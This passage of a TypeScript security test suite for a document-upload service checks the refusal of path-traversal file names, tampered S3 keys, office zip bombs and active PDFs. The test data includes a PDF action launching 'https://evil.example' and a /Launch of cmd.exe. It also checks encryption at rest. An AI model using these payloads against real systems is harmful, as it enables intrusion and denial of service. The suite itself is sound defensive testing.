      { fileName: '..%2f..%2fx.pdf', kept: '%2f.%2fx.pdf' },
      { fileName: 'slip\u0000.pdf', kept: 'slip.pdf' },
      { fileName: '.htaccess.pdf', kept: 'htaccess.pdf' },
      { fileName: 'pay\u202eslip.pdf', kept: 'payslip.pdf' },
      { fileName: 'a\r\nContent-Type: text/html\r\n.pdf', kept: 'aContent-Type-textorhtml.pdf' },
      { fileName: `${'x'.repeat(251)}.pdf`, kept: `${'x'.repeat(116)}.pdf` },
      { fileName: 'x', fileExtension: '.PDF', kept: 'x.pdf' },
      { fileName: 'file.exe.pdf', kept: 'file.exe.pdf' },
      // Refused: the name's extension, or the bytes, are not a document's.
      { fileName: 'payslip.pdf\u0000.exe', expect: typeRefusal(IMAGE_OR_PDF) },
      { fileName: 'file.pdf.exe', bytes: sampleExecutable, expect: typeRefusal(IMAGE_OR_PDF) },
      { fileName: 'file.exe.pdf', bytes: sampleExecutable, expect: typeRefusal(IMAGE_OR_PDF) },
      { fileName: 'invoice\u202efdp.exe', expect: typeRefusal(IMAGE_OR_PDF) },
      { fileName: 'payslip.\uff50\uff44\uff46', expect: typeRefusal(IMAGE_OR_PDF) },
      { fileName: 'payslip.\u0440df', expect: typeRefusal(IMAGE_OR_PDF) },
      { fileName: 'x', fileExtension: '../pdf', expect: typeRefusal(IMAGE_OR_PDF) },
      { fileName: 'x', fileExtension: 'pdf/../..', expect: typeRefusal(IMAGE_OR_PDF) },
      {
        fileName: 'payslip\u2024pdf',
        expect: {
          status: 400,
          code: 'MEDIA.EXTENSION_REQUIRED',
          message: 'A document upload needs a file name with an extension, e.g. payslip.pdf.',
          title: DOCUMENT_FAILED,
        },
      },
      // Longer than a name may be: refused by the form's rules (the spec sets no text for it).
      { fileName: `${'x'.repeat(300)}.pdf`, expect: { status: 400, code: 'VALIDATION.INVALID_INPUT' } },
    ];
    if (full) {
      const parts = [
        '..',
        '.',
        '/',
        '\\',
        '%2e',
        '%2f',
        '\u0000',
        '\u202e',
        '\uff0f',
        '\u2215',
        'etc',
        'passwd',
        ' ',
        '~',
        ':',
        '|',
      ];
      for (let i = 0; i < 150; i++) {
        let name = '';
        for (let j = 0; j < 3 + (i % 9); j++) name += parts[(i * 7 + j * 13) % parts.length];
        tricks.push({ fileName: `${name}${i}.pdf` });
      }
    }
    const cases = tricks.map(
      (t, i): UploadCase => ({
        group: 'path',
        name: `${JSON.stringify(t.fileName)}${t.fileExtension !== undefined ? ` + FileExtension ${JSON.stringify(t.fileExtension)}` : ''}`,
        title: 'Pay Slip',
        fileName: t.fileName,
        ...(t.fileExtension !== undefined ? { fileExtension: t.fileExtension } : {}),
        bytes: t.bytes ?? pdf,
        via: full && i % 2 === 1 && !t.expect ? 'link' : 'form',
        expect: t.expect ?? accepted,
      }),
    );
    const out: CaseResult[] = [];
    let keysChecked = 0;
    for (const [i, c] of cases.entries()) {
      const r = await attempt(c);
      out.push(r);
      if (r.refused) continue;
      const stored = await storedMedia(r);
      const kept = tricks[i]!.kept;
      if (kept !== undefined) expect(stored.FileName, c.name).toBe(kept);
      // The kept name is a name, not a path; the key is the server's own.
      expect(stored.FileName).not.toMatch(/[/\\\0\r\n]|^\./);
      expect(stored.FileName.length).toBeLessThanOrEqual(120);
      expect(stored.StorageKey).toBe(`media/${stored.MediaId}.pdf`);
      // The bucket lists the media's own key and no other; on disk, that key's folder (its name
      // the key's hash) holds its one version, and through the link the form's key under
      // uploads/ holds the posted version behind a delete marker (gone after the lifecycle).
      expect(r.newStoredKeys).toEqual([`media/${stored.MediaId}.pdf`]);
      const written =
        c.via === 'link'
          ? [`media/${stored.MediaId}.pdf`, `uploads/media/${stored.MediaId}.pdf`]
          : [`media/${stored.MediaId}.pdf`];
      expect(r.newKeysOnDisk.sort()).toEqual(written);
      expect(r.newFiles.map(withoutVersion).sort()).toEqual(written.flatMap(filesOfOneVersion).sort());
      keysChecked++;
      await removeAccepted(r, stored.MediaId);
    }
    const wrong = out
      .filter((r) => !r.asExpected)
      .map((r) => ({ name: r.name, expected: r.expected, got: r.got }));
    expect(wrong).toEqual([]);
    expect(
      out.filter(
        (r) => r.refused && (r.newFiles.length > 0 || r.newStoredKeys.length > 0 || r.newMediaRows !== 0),
      ),
    ).toEqual([]);
    // Every file written went under the store's folder, in a folder named by the hash of a key the
    // server named.
    expect(out.flatMap((r) => r.newFiles).filter((f) => !storeFile.test(f))).toEqual([]);
    expect(out.flatMap((r) => r.newKeysOnDisk).filter((k) => !serverKey.test(k))).toEqual([]);
    // Nor did any land where a name taken as a path would have put it.
    const naive = tricks.flatMap((t) => [
      join(documents().dir, BUCKET, t.fileName),
      join(documents().dir, BUCKET, 'media', t.fileName),
      join(documents().dir, t.fileName),
      join(dataDir, t.fileName),
    ]);
    expect(naive.filter((p) => !p.includes('\0') && existsSync(p))).toEqual([]);

    // The upload link's key is the server's whatever the name, under uploads/, and the store keeps
    // to it: a form whose key was changed no longer meets its signed policy, and S3 refuses it
    // (403 AccessDenied) before it reads the file.
    const ticket = await requestUpload(cases[0]!, pdf().length);
    const uploadKey = ticket.body.Data.fields.key!;
    expect(uploadKey).toMatch(/^uploads\/media\/[0-9a-f-]{36}\.pdf$/);
    const before = await filesUnderDataDir();
    const storedBefore = await storedKeys(documents());
    const storeRefusals: { status: number; code?: string }[] = [];
    for (const key of [
      '../../x.pdf',
      'media/../../x.pdf',
      '/etc/passwd.pdf',
      `media/${'a'.repeat(36)}.pdf`,
      // Where the checked file will be kept: no form writes there.
      uploadKey.slice('uploads/'.length),
    ]) {
      const res = await postToStore(ticket.body.Data, pdf(), { ...ticket.body.Data.fields, key });
      storeRefusals.push({ status: res.status, code: res.body.code });
    }
    expect(storeRefusals).toEqual(Array(5).fill({ status: 403, code: 'AccessDenied' }));
    expect(newOf(await filesUnderDataDir(), before)).toEqual([]);
    expect(newOf(await storedKeys(documents()), storedBefore)).toEqual([]);
    // The same form as granted is taken; once checked, its file is kept under the media's own key
    // only: the form's key is deleted (a delete marker, so a read of it answers NoSuchKey) and
    // its bytes go with the lifecycle.
    expect((await postToStore(ticket.body.Data, pdf())).status).toBe(204);
    const confirmed = await call().post<Answer>(
      '/medias/confirm-upload',
      { UploadId: ticket.body.Data.UploadId },
      token,
    );
    expect(confirmed.status).toBe(201);
    const mediaId = confirmed.body.Data!.MediaId;
    expect(uploadKey).toBe(`uploads/media/${mediaId}.pdf`);
    expect(newOf(await storedKeys(documents()), storedBefore)).toEqual([`media/${mediaId}.pdf`]);
    expect((await documents().store.lookup(BUCKET, uploadKey)).kind).toBe('delete-marker');
    expect(
      newOf(await filesUnderDataDir(), before)
        .map(withoutVersion)
        .sort(),
    ).toEqual([`media/${mediaId}.pdf`, uploadKey].flatMap(filesOfOneVersion).sort());

    // A download link cannot be bent to another key: its key is part of what was signed, and S3
    // answers a changed one SignatureDoesNotMatch, a path out of the store as any other.
    const link = await call().post<{ Data: { URL: string } }>(
      '/medias/download-url',
      { MediaId: mediaId },
      token,
    );
    const signedPath = `/blobs/${BUCKET}/media/${mediaId}.pdf`;
    expect(new URL(link.body.Data.URL).pathname).toBe(signedPath);
    const bentLinks: { status: number; code?: string }[] = [];
    for (const bentKey of ['..%2F..%2Fdev-token', 'media%2F..%2F..%2F..%2Fdev-token', '%2Fetc%2Fpasswd']) {
      const res = await fetch(link.body.Data.URL.replace(signedPath, `/blobs/${BUCKET}/${bentKey}`));
      bentLinks.push({ status: res.status, code: (await s3Answer(res)).code });
    }
    expect(bentLinks).toEqual(Array(3).fill({ status: 403, code: 'SignatureDoesNotMatch' }));
    await removeMedia(mediaId);
    // Deleted, and a day later gone: the data folder is as it was before the form was posted.
    expect(newOf(await filesUnderDataDir(), before)).toEqual([]);

    // The store itself, given keys that are paths (S3 takes nearly any key): each is hashed into a
    // folder of its own under the bucket, so none writes outside it, and none reads a file that
    // is there (the data folder's dev-token lies where `../../dev-token` would lead).
    const store = documents().store;
    const devToken = await readFile(join(dataDir, 'dev-token'));
    expect((await store.lookup(BUCKET, '../../dev-token')).kind).toBe('no-such-key');
    const pathKeys = [
      '../../dev-token',
      '../../x.pdf',
      '../x.pdf',
      'media/../../../x.pdf',
      '..\\..\\x.pdf',
      join(dataDir, 'x.pdf'),
    ];
    const beforeKeys = await filesUnderDataDir();
    for (const key of pathKeys) {
      await store.put({
        bucket: BUCKET,
        key,
        headers: { contentType: 'application/pdf' },
        metadata: {},
        sse: { algorithm: 'aws:kms', kmsKeyId: LOCAL_KMS_KEY_ID, bucketKeyEnabled: true },
        checksumAlgorithm: 'CRC64NVME',
        body: [text(`written under ${key}`)],
        maxBytes: MB,
      });
    }
    expect(
      newOf(await filesUnderDataDir(), beforeKeys)
        .map(withoutVersion)
        .sort(),
    ).toEqual(pathKeys.flatMap(filesOfOneVersion).sort());
    expect((await readFile(join(dataDir, 'dev-token'))).equals(devToken)).toBe(true);
    // Each is read back by its key, from its own folder.
    const readBack: string[] = [];
    for (const key of pathKeys) {
      const found = await store.lookup(BUCKET, key);
      if (found.kind === 'object') readBack.push((await store.read(found.object)).toString('latin1'));
    }
    expect(readBack).toEqual(pathKeys.map((k) => `written under ${k}`));
    for (const key of pathKeys) await store.addDeleteMarker(BUCKET, key);
    expect((await storedKeys(documents())).filter((k) => pathKeys.includes(k))).toEqual([]);
    await lifecycleADayLater();
    expect((await keysOnDisk(documents())).filter((k) => pathKeys.includes(k))).toEqual([]);
    expect(newOf(await filesUnderDataDir(), beforeKeys)).toEqual([]);
    figures.pathTricks = {
      cases: cases.length,
      storedKeysChecked: keysChecked,
      tamperedStoreKeysRefused: storeRefusals.length,
      bentDownloadLinksRefused: bentLinks.length,
      pathKeysHashedIntoTheStore: pathKeys.length,
    };
  });

  it('zip bombs in office formats: refused by type, never unpacked', async () => {
    const inflated = stressSize(256 * MB, 2048 * MB - 1);
    const payload = await deflatedZeros(inflated);
    const docx = officeBomb('docx', payload);
    const xlsx = officeBomb('xlsx', payload);
    // A PDF whose object stream is a deflate bomb: the one file here the product does inflate, to
    // its budget and no further (and the proof that the count below sees an inflation).
    const pdfBomb = pdfWith(
      '',
      streamObject(
        '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
        deflateSync(Buffer.alloc(stressSize(64, 256) * MB)),
      ),
    );
    const cases: UploadCase[] = [
      {
        name: `.docx deflate bomb (${inflated} bytes inflated)`,
        title: 'Pay Slip',
        fileName: 'contract.docx',
        bytes: () => docx,
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: `.xlsx deflate bomb (${inflated} bytes inflated)`,
        title: 'Bank Statement',
        fileName: 'statement.xlsx',
        bytes: () => xlsx,
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: '.docx bomb as an identity image',
        title: 'NRIC Front',
        fileName: 'ic.docx',
        bytes: () => docx,
        expect: typeRefusal(IMAGE_ONLY),
      },
      {
        name: '.docx bomb renamed .pdf',
        title: 'Pay Slip',
        fileName: 'contract.pdf',
        bytes: () => docx,
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: '.xlsx bomb renamed .png',
        title: 'Pay Slip',
        fileName: 'statement.png',
        bytes: () => xlsx,
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: '.docx bomb announced for the link',
        title: 'Pay Slip',
        fileName: 'contract.docx',
        via: 'declared',
        bytes: () => docx,
        expect: typeRefusal(IMAGE_OR_PDF),
      },
      {
        name: '.xlsx bomb renamed .pdf through the link',
        title: 'Pay Slip',
        fileName: 'statement.pdf',
        via: 'link',
        bytes: () => xlsx,
        expect: typeRefusal(IMAGE_OR_PDF),
      },
    ].map((c) => ({ group: 'zip-bomb', ...c }) as UploadCase);
    if (full) {
      // 42.zip's idea: archives of archives; and every office extension.
      const nested = zipOf([
        { name: 'a.xlsx', body: xlsx },
        { name: 'b.xlsx', body: xlsx },
      ]);
      cases.push({
        group: 'zip-bomb',
        name: 'nested .xlsx of .xlsx',
        title: 'Pay Slip',
        fileName: 'nested.xlsx',
        bytes: () => nested,
        expect: typeRefusal(IMAGE_OR_PDF),
      });
      for (const ext of ['doc', 'xls', 'odt', 'ppt', 'pptx', 'zip', 'jar', 'gz']) {
        cases.push({
          group: 'zip-bomb',
          name: `.docx bomb named .${ext}`,
          title: 'Pay Slip',
          fileName: `bomb.${ext}`,
          bytes: () => docx,
          expect: typeRefusal(IMAGE_OR_PDF),
        });
      }
    }
    const counter = countDecompression();
    let office: CaseResult[];
    try {
      office = await runGroup(cases);
      figures.inflationsDuringOfficeBombs = counter.calls;
      expect(counter.calls, `decompressed: ${counter.names.join(', ')}`).toBe(0);
      const [objStm] = await runGroup([
        {
          group: 'zip-bomb',
          name: `PDF whose object stream is a deflate bomb (${stressSize(64, 256)} MB)`,
          title: 'Pay Slip',
          fileName: 'bomb.pdf',
          bytes: () => pdfBomb,
          expect: typeRefusal(IMAGE_OR_PDF),
        },
      ]);
      expect(counter.calls).toBeGreaterThan(0);
      // Inflated to the scan's budget (32 MiB) at most, whatever the stream would make.
      expect(counter.outputBytes).toBeLessThanOrEqual(32 * MB);
      figures.pdfObjectStreamBomb = {
        inflateCalls: counter.calls,
        budgetBytes: 32 * MB,
        ms: objStm!.ms,
      };
    } finally {
      counter.restore();
    }
    figures.officeBombs = {
      inflatedBytesEach: inflated,
      fileBytes: { docx: docx.length, xlsx: xlsx.length },
      ratio: Math.round(inflated / docx.length),
      msMax: Math.max(...office.map((r) => r.ms)),
    };
  });

  it('PDFs with JavaScript, actions or attachments', async () => {
    const js = '<< /S /JavaScript /JS (app.launchURL("https://evil.example", true)) >>';
    const variants: [string, () => Buffer][] = [
      ['/OpenAction with JavaScript', () => pdfWith(`/OpenAction ${js}`)],
      ['/JS alone', () => pdfWith('/OpenAction << /JS (this.print()) >>')],
      ['/J#61vaScript (escaped)', () => pdfWith('/OpenAction << /S /J#61vaScript /JS (x) >>')],
      ['/#4A#53 (escaped)', () => pdfWith('/OpenAction << /#4A#53 (x) >>')],
      ['/Names /JavaScript tree', () => pdfWith('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', js)],
      ['/Launch', () => pdfWith('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>')],
      [
        '/EmbeddedFile (an attached program)',
        () =>
          pdfWith(
            '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
            '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
            streamObject('/Type /EmbeddedFile', sampleExecutable()),
          ),
      ],
      [
        '/AA on a page',
        () =>
          pdfOf([
            '<< /Type /Catalog /Pages 2 0 R >>',
            onePage[0],
            `<< /Type /Page /Parent 2 0 R /AA << /O ${js} >> >>`,
          ]),
      ],
      ['/RichMedia', () => pdfWith('', '<< /Type /Annot /Subtype /RichMedia >>')],
      ['/XFA form', () => pdfWith('/AcroForm << /Fields [] /XFA 4 0 R >>', streamObject('', '<xdp:xdp/>'))],
      [
        'JavaScript in an uncompressed object stream',
        () => pdfWith('/OpenAction 5 0 R', objectStreamOf([js], 5, false)),
      ],
      [
        'JavaScript in a compressed object stream',
        () => pdfWith('/OpenAction 5 0 R', objectStreamOf([js], 5)),
      ],
      [
        'escaped /JS in a compressed object stream',
        () => pdfWith('/OpenAction 5 0 R', objectStreamOf(['<< /S /JavaScript /J#53 (x) >>'], 5)),
      ],
      [
        'an action hidden in another object’s stream data',
        () =>
          pdfWith(
            '/OpenAction 5 0 R',
            streamObject('/Filter /FlateDecode', text(`\x00\x01 5 0 obj ${js} endobj`)),
          ),
      ],
      [
        'an object stream it cannot read (ASCIIHex)',
        () =>
          pdfWith(
            '/OpenAction 5 0 R',
            streamObject(
              '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode',
              Buffer.from(`5 0 ${js}`).toString('hex'),
            ),
          ),
      ],
      [
        'a password-protected PDF’s object stream (ciphertext)',
        () =>
          pdfOf(
            [
              '<< /Type /Catalog /Pages 2 0 R >>',
              ...onePage,
              streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', randomBytes(256)),
            ],
            '/Encrypt 9 0 R ',
          ),
      ],
    ];
    if (full) {
      // Every active name, written plainly, escaped whole and escaped in part, in the file and in
      // compressed and uncompressed object streams.
      for (const name of [
        'JavaScript',
        'JS',
        'AA',
        'Launch',
        'EmbeddedFile',
        'EmbeddedFiles',
        'RichMedia',
        'XFA',
      ]) {
        const forms = [
          name,
          escapeAll(name),
          [...name].map((ch, i) => (i % 2 ? escapeAll(ch) : ch)).join(''),
        ];
        for (const [f, written] of forms.entries()) {
          const dict = `<< /${written} (x) >>`;
          variants.push(
            [`/${name} form ${f} in the file`, () => pdfWith(`/OpenAction ${dict}`)],
            [
              `/${name} form ${f} in an object stream`,
              () => pdfWith('/OpenAction 5 0 R', objectStreamOf([dict], 5)),
            ],
            [
              `/${name} form ${f} in an uncompressed object stream`,
              () => pdfWith('/OpenAction 5 0 R', objectStreamOf([dict], 5, false)),
            ],
          );
        }
      }
    }
    const cases: UploadCase[] = variants.map(([name, bytes]) => ({
      group: 'pdf-active',
      name,
      title: 'Pay Slip',
      fileName: 'slip.pdf',
      bytes,
      expect: typeRefusal(IMAGE_OR_PDF),
    }));
    cases.push({
      group: 'pdf-active',
      name: 'PDF with JavaScript through the upload link',
      title: 'Bank Statement',
      fileName: 'march.pdf',
      via: 'link',
      bytes: variants[0]![1],
      expect: typeRefusal(IMAGE_OR_PDF),
    });
    // What an honest statement holds is still taken.
    const honest: UploadCase[] = [
      {
        group: 'pdf-active',
        name: 'a plain PDF with a compressed object stream (accepted)',
        title: 'Pay Slip',
        fileName: 'slip.pdf',
        bytes: () =>
          pdfWith(
            '/OpenAction [3 0 R /Fit]',
            objectStreamOf(['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'], 5),
          ),
        expect: accepted,
      },
      {
        group: 'pdf-active',
        name: 'a PDF whose text mentions /JavaScript and /JS (accepted)',
        title: 'Pay Slip',
        fileName: 'slip.pdf',
        bytes: () =>
          pdfWith(
            '',
            '<< /Title (About /JavaScript and /JS) >>',
            streamObject('', 'BT /JS 12 Tf (see /JavaScript) Tj ET'),
          ),
        expect: accepted,
      },
    ];
    await runGroup(cases);
    for (const r of await runGroup(honest)) await removeAccepted(r);
  });
});

describe('sensitive documents are ciphertext at rest', () => {
  /** Shannon entropy, in bits per byte. */
  const entropy = (bytes: Uint8Array) => {
    const counts = new Array<number>(256).fill(0);
    for (const b of bytes) counts[b]!++;
    return counts.reduce((h, n) => (n ? h - (n / bytes.length) * Math.log2(n / bytes.length) : h), 0);
  };
  const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');
  const md5 = (b: Uint8Array) => createHash('md5').update(b).digest('hex');
  /** A document's hashes as they might be written down: hex and base64, SHA-256 and MD5. */
  const hashesOf = (b: Uint8Array) =>
    (['sha256', 'md5'] as const).flatMap((alg) => {
      const digest = createHash(alg).update(b).digest();
      return [digest.toString('hex'), digest.toString('base64')];
    });
  /** What the store keeps of every version the product writes: SSE-KMS, the product's key, a bucket key. */
  const PRODUCT_SSE = { algorithm: 'aws:kms', kmsKeyId: 'alias/ezc-documents-local', bucketKeyEnabled: true };

  /**
   * The newest version of a key as it lies on disk: its sealed bytes and the JSON beside them (the
   * version's id is read from the store; the files themselves straight from the data folder).
   */
  const versionOnDisk = async (key: string) => {
    const found = await documents().store.lookup(BUCKET, key);
    expect(found.kind, key).toBe('object');
    const { versionId } = (found as Extract<typeof found, { kind: 'object' }>).object;
    const folder = join(dataDir, keyFolder(key));
    const json = await readFile(join(folder, `${versionId}.json`), 'utf8');
    return { bytes: await readFile(join(folder, `${versionId}.bin`)), json, meta: JSON.parse(json) };
  };
  const SIGNATURES = [text('\x89PNG'), Buffer.from([0xff, 0xd8, 0xff]), text('%PDF-')];

  /** A document of `size` bytes with readable, repetitive text in it (low entropy, easy to spot). */
  const plaintextOf = (kind: 'png' | 'pdf', size: number, secret: string) => {
    const line = `${secret} Jumlah Gaji RM 4,250.00 `;
    const filler = line.repeat(Math.ceil(size / line.length)).slice(0, size - 300);
    return kind === 'png' ? samplePng(filler) : samplePdf(filler);
  };

  it('keeps each sensitive document encrypted on disk (not its bytes, not its signature, not its hash), and gives it back whole', async () => {
    const size = stressSize(256 * 1024, 4 * MB);
    const secret = 'MyKad 900101-14-5678 AHMAD BIN ISMAIL';
    const documents: { title: string; kind: 'png' | 'pdf'; via: Via }[] = [
      { title: 'NRIC Front', kind: 'png', via: 'form' },
      { title: 'Bank Statement', kind: 'pdf', via: 'link' },
      ...(full
        ? ([
            { title: 'NRIC Back', kind: 'png', via: 'link' },
            { title: 'Pay Slip', kind: 'pdf', via: 'form' },
            { title: 'EPF Statement', kind: 'pdf', via: 'form' },
            { title: 'EA Form or Tax Return', kind: 'pdf', via: 'link' },
            { title: 'Other Income', kind: 'png', via: 'form' },
            { title: 'Asset', kind: 'pdf', via: 'form' },
            { title: 'eKYC Front', kind: 'png', via: 'form' },
            { title: 'eKYC Back', kind: 'png', via: 'link' },
          ] as const)
        : []),
    ];
    const checks: Record<string, unknown>[] = [];
    for (const d of documents) {
      const plain = plaintextOf(d.kind, size, secret);
      const c: UploadCase = {
        group: 'ciphertext',
        name: `${d.title} at rest`,
        title: d.title,
        fileName: `doc.${d.kind}`,
        via: d.via,
        bytes: () => plain,
        expect: accepted,
      };
      const r = await attempt(c);
      expect(r.got.status, d.title).toBe(201);
      const stored = await storedMedia(r);
      expect(stored.IsEncryptedYN).toBe('Y');
      let removed = false;
      try {
        const { bytes: onDisk, json: metaText, meta } = await versionOnDisk(stored.StorageKey);
        const windows = Array.from({ length: 64 }, (_, i) =>
          plain.subarray(
            Math.floor((i * (plain.length - 32)) / 64),
            Math.floor((i * (plain.length - 32)) / 64) + 32,
          ),
        );
        const check = {
          title: d.title,
          via: d.via,
          bytes: plain.length,
          // AES-GCM is a stream cipher: the sealed bytes are the document's length (its tag is kept
          // in the JSON).
          sameLength: onDisk.length === plain.length,
          noSignature: SIGNATURES.every((s) => !onDisk.subarray(0, s.length).equals(s)),
          plaintextNotFound: onDisk.indexOf(plain) < 0 && windows.every((w) => onDisk.indexOf(w) < 0),
          secretNotFound:
            onDisk.indexOf(text(secret)) < 0 &&
            !onDisk.toString('latin1').includes('900101') &&
            !metaText.includes('900101'),
          plaintextEntropy: Number(entropy(plain).toFixed(4)),
          ciphertextEntropy: Number(entropy(onDisk).toFixed(4)),
          metaSealed: meta.metadata?.sensitive === '1' && meta.envelope?.alg === 'AES-256-GCM',
          // The store's hash of the version (its ETag, under SSE-KMS not the document's MD5) is of
          // the sealed bytes, and no hash of the document itself is written beside them: one would
          // let whoever reads the data folder confirm a guess of the document.
          metaHashIsNotPlaintexts:
            meta.etag === `"${md5(onDisk)}"` && hashesOf(plain).every((h) => !metaText.includes(h)),
          checksum: meta.checksum?.algorithm,
          sse: meta.sse,
          readBackWhole: false,
        };
        // Its owner gets the plain document back through a short link.
        const link = await call().post<{ Data: { URL: string } }>(
          '/medias/download-url',
          { MediaId: stored.MediaId },
          token,
        );
        const back = Buffer.from(await (await fetch(link.body.Data.URL)).arrayBuffer());
        check.readBackWhole = back.equals(plain);
        checks.push(check);
        expect(check).toMatchObject({
          sameLength: true,
          noSignature: true,
          plaintextNotFound: true,
          secretNotFound: true,
          metaSealed: true,
          metaHashIsNotPlaintexts: true,
          sse: PRODUCT_SSE,
          readBackWhole: true,
        });
        expect(check.ciphertextEntropy).toBeGreaterThan(7.99);
        expect(check.plaintextEntropy).toBeLessThan(6);
        await removeAccepted(r, stored.MediaId);
        removed = true;
      } finally {
        // A failed check still deletes the document, so the next test finds its title free.
        if (!removed) await remove(stored.MediaId);
      }
    }
    // A document that is not sensitive is not marked so, yet is sealed on disk all the same (the
    // store encrypts every object at rest, as S3 does), under the same SSE-KMS.
    const photo = pngOfSize(64 * 1024);
    const r = await attempt({
      group: 'ciphertext',
      name: 'Photo (not sensitive) kept as it came',
      title: 'Photo',
      fileName: 'me.png',
      bytes: () => photo,
      expect: accepted,
    });
    const stored = await storedMedia(r);
    expect(stored.IsEncryptedYN).toBe('N');
    const photoOnDisk = await versionOnDisk(stored.StorageKey);
    expect({
      sealed: !photoOnDisk.bytes.equals(photo) && photoOnDisk.bytes.indexOf(photo.subarray(0, 8)) < 0,
      sameLength: photoOnDisk.bytes.length === photo.length,
      sensitive: photoOnDisk.meta.metadata?.sensitive ?? null,
      envelope: photoOnDisk.meta.envelope?.alg,
      sse: photoOnDisk.meta.sse,
    }).toEqual({
      sealed: true,
      sameLength: true,
      sensitive: null,
      envelope: 'AES-256-GCM',
      sse: PRODUCT_SSE,
    });
    await removeAccepted(r, stored.MediaId);
    figures.ciphertextAtRest = {
      checks: checks.length,
      passed: checks.length,
      bytesEach: size,
      storedUnderSseKms: checks.length + 1,
      minCiphertextEntropy: Math.min(...checks.map((c) => c.ciphertextEntropy as number)),
      maxPlaintextEntropy: Math.max(...checks.map((c) => c.plaintextEntropy as number)),
      documents: checks,
    };
  });

  it('has the S3 adapter write every document under SSE-KMS with the data key, which the bucket demands', async () => {
    const keyArn = 'arn:aws:kms:ap-southeast-1:111122223333:key/0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9';
    // The bucket policy (infra/lib/sse-kms-uploads.ts): a PutObject not under SSE-KMS with the
    // data key is denied, whoever sends it.
    const stub: AwsStub = await startAwsStub((req) => {
      if (req.method !== 'PUT') return { status: 204 };
      const sse = req.headers['x-amz-server-side-encryption'];
      const key = req.headers['x-amz-server-side-encryption-aws-kms-key-id'];
      return sse === 'aws:kms' && key === keyArn
        ? { status: 200, body: '' }
        : {
            status: 403,
            headers: { 'content-type': 'application/xml' },
            body: '<Error><Code>AccessDenied</Code><Message>Access Denied</Message></Error>',
          };
    });
    const fsStore = rt.platform.blobs;
    const s3 = (kmsKeyId: string): BlobStore =>
      new S3BlobStore(
        { region: 'ap-southeast-1', endpoint: stub.endpoint },
        { bucket: 'ezc-documents', kmsKeyId },
      );
    const plain = plaintextOf('png', 64 * 1024, 'MyKad');
    const rows: Record<string, unknown>[] = [];
    try {
      rt.platform.blobs = s3(keyArn);
      for (const title of ['NRIC Front', 'Photo']) {
        const before = stub.requests.length;
        const res = await uploadForm(
          {
            group: 'ciphertext',
            name: title,
            title,
            fileName: 'doc.png',
            bytes: () => plain,
            expect: accepted,
          },
          plain,
        );
        expect(res.status, title).toBe(201);
        const put = stub.requests.slice(before).find((q) => q.method === 'PUT')!;
        rows.push({
          title,
          path: put.path,
          sse: put.headers['x-amz-server-side-encryption'],
          kmsKeyId: put.headers['x-amz-server-side-encryption-aws-kms-key-id'],
          bucketKey: put.headers['x-amz-server-side-encryption-bucket-key-enabled'],
          sensitive: put.headers['x-amz-meta-sensitive'] ?? null,
          signed: put.signedWith !== undefined,
        });
        expect(put.path).toBe(`/ezc-documents/media/${res.body.Data!.MediaId}.png`);
        expect(put.headers).toMatchObject({
          'x-amz-server-side-encryption': 'aws:kms',
          'x-amz-server-side-encryption-aws-kms-key-id': keyArn,
          'x-amz-content-sha256': sha256(plain),
        });
        // A store at a given endpoint is a local stand-in, signed with the local keys.
        expect(put.signedWith).toMatch(/^local\/\d{8}\/ap-southeast-1\/s3\/aws4_request$/);
        // S3 encrypts at rest under that key; on the way the body travels inside TLS as it came.
        expect(put.body.equals(plain)).toBe(true);
        expect((await remove(res.body.Data!.MediaId)).status).toBe(200);
      }
      expect(rows.map((r) => r.sensitive)).toEqual(['1', null]);

      // The browser's upload form names the same encryption, and its signed policy requires it.
      const ticket = await requestUpload(
        {
          group: 'ciphertext',
          name: 'link',
          title: 'Bank Statement',
          fileName: 'march.pdf',
          bytes: samplePdf,
          expect: accepted,
        },
        1000,
      );
      const { fields } = ticket.body.Data;
      expect(fields).toMatchObject({
        'x-amz-server-side-encryption': 'aws:kms',
        'x-amz-server-side-encryption-aws-kms-key-id': keyArn,
        'x-amz-meta-sensitive': '1',
      });
      const policy = JSON.parse(Buffer.from(fields.Policy!, 'base64').toString('utf8'));
      expect(policy.conditions).toEqual(
        expect.arrayContaining([
          { 'x-amz-server-side-encryption': 'aws:kms' },
          { 'x-amz-server-side-encryption-aws-kms-key-id': keyArn },
        ]),
      );

      // Under another key the bucket refuses the object, and the upload keeps nothing.
      rt.platform.blobs = s3('arn:aws:kms:ap-southeast-1:111122223333:key/another');
      const rowsBefore = await scanTable();
      const refused = await uploadForm(
        {
          group: 'ciphertext',
          name: 'other key',
          title: 'NRIC Back',
          fileName: 'back.png',
          bytes: () => plain,
          expect: accepted,
        },
        plain,
      );
      expect(refused.status).toBe(500);
      expect((await scanTable()).media).toBe(rowsBefore.media);
      expect(stub.requests.at(-1)?.method).toBe('PUT');
    } finally {
      rt.platform.blobs = fsStore;
      await stub.close();
    }
    figures.s3Adapter = {
      putsUnderSseKms: rows.length,
      puts: rows,
      uploadFormRequiresSseKms: true,
      putUnderAnotherKeyRefusedAndNothingKept: true,
    };
  });
});

// ---------------------------------------------------------------------------------------------

/** The stored media row of an accepted case (its key is not in the API's answer). */
async function storedMedia(r: CaseResult) {
  const media = await customersPorts(rt.platform).medias.latestOf('Customer', BORROWER, r.title);
  expect(media, r.name).toBeDefined();
  return media!;
}

/** Deletes an accepted case's file, and checks it left nothing (see removeMedia). */
async function removeAccepted(r: CaseResult, mediaId?: string) {
  await removeMedia(mediaId ?? (await storedMedia(r)).MediaId);
}

/**
 * Deletes a media and checks it left nothing: at once the bucket lists none of its keys and a
 * download link handed out before answers as S3 does for a deleted key (404 NoSuchKey); the
 * versioned bucket keeps the bytes behind a delete marker until the lifecycle, and once that has
 * run a day later no version of its keys, and no file of their folders, is left on disk.
 */
async function removeMedia(id: string) {
